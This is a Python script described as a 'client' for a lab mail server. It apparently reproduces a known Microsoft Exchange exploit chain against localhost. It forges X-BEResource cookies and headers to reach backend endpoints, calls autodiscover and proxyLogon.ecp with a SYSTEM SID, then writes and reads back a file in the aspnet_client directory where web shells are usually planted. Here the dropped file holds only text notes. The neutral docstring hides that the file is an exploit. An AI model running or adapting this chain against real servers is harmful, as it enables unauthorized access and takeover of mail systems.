# ruff: noqa
"""Class-based client for the lab mail server; same requests, tidier code."""

from __future__ import annotations

import json
import sys
from dataclasses import dataclass, field

import requests


@dataclass
class LabTarget:
    host: str = "127.0.0.1"
    port: int = 8080
    backend: str = "localhost"
    realm: str = "lab.invalid"
    user: str = "administrator@lab.invalid"

    @property
    def root(self) -> str:
        return "http://%s:%d" % (self.host, self.port)


class MailClient:
    AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"

    def __init__(self, target: LabTarget) -> None:
        self.target = target
        self.http = requests.Session()
        self.http.headers.clear()

    def _browser_headers(self) -> dict[str, str]:
        return {
            "User-Agent": self.AGENT,
            "x-requested-with": "XMLHttpRequest",
            "Accept": "*/*",
            "accept-language": "en-US,en;q=0.9",
            "connection": "close",
        }

    def _cookie(self) -> str:
        t = self.target
        jar = ["X-AnonResource=true", "X-AnonResource-Backend=" + t.realm]
        jar.append(
            "X-BEResource="
            + requests.utils.quote(
                f"{t.backend}@{t.realm}/ews/exchange.asmx?a=~1843073522", safe="@/~?"
            )
        )
        return "; ".join(jar)

    def discover(self) -> requests.Response:
        h = self._browser_headers()
        h["cookie"] = self._cookie()
        q = [
            ("Pad", "A" * 37),
            ("Protocol", "Autodiscoverv1"),
            ("Email", self.target.user + "/mapi/nspi"),
            ("RequestId", "20200302-7720"),
        ]
        return self.http.get(
            self.target.root + "/autodiscover/autodiscover.json", params=q, headers=h, timeout=10
        )

    def identity(self) -> str:
        t = self.target
        doc = json.dumps({"seq": 1, "requestKind": "identity", "mailbox": t.user}, sort_keys=True)
        resp = self.http.post(
            t.root + "/ecp/proxyLogon.ecp",
            data=doc,
            headers={
                "user-agent": self.AGENT,
                "msexchlogonmailbox": "S-1-5-20",
                "content-type": "application/json",
                "X-BEResource": f"{t.backend}@{t.realm}/ecp/proxyLogon.ecp",
            },
            timeout=10,
        )
        return resp.text.strip() if resp.ok else "anonymous"

    def drop(self, who: str, count: int = 3) -> bool:
        where = "/aspnet_client/system_web/" + "readme_91453.txt"
        text = "\n".join("note %d of %d for %s" % (k, count, who) for k in range(1, count + 1))
        resp = self.http.post(
            self.target.root + where,
            data=text.encode("utf-8"),
            headers={"user-agent": self.AGENT, "X-Note-Path": where, "Content-Type": "text/plain"},
            timeout=10,
        )
        return resp.status_code in (200, 201, 204)

    def verify(self) -> int:
        resp = self.http.get(
            self.target.root + "/aspnet_client/system_web/readme_91453.txt",
            headers=self._browser_headers(),
            timeout=10,
        )
        return 0 if resp.status_code == 404 else len(resp.content[:1024])


if __name__ == "__main__":
    client = MailClient(LabTarget(port=int(sys.argv[1])))
    if client.discover().status_code < 500:
        who = client.identity()
        print(json.dumps({"written": client.drop(who), "read_back": client.verify()}, indent=4))
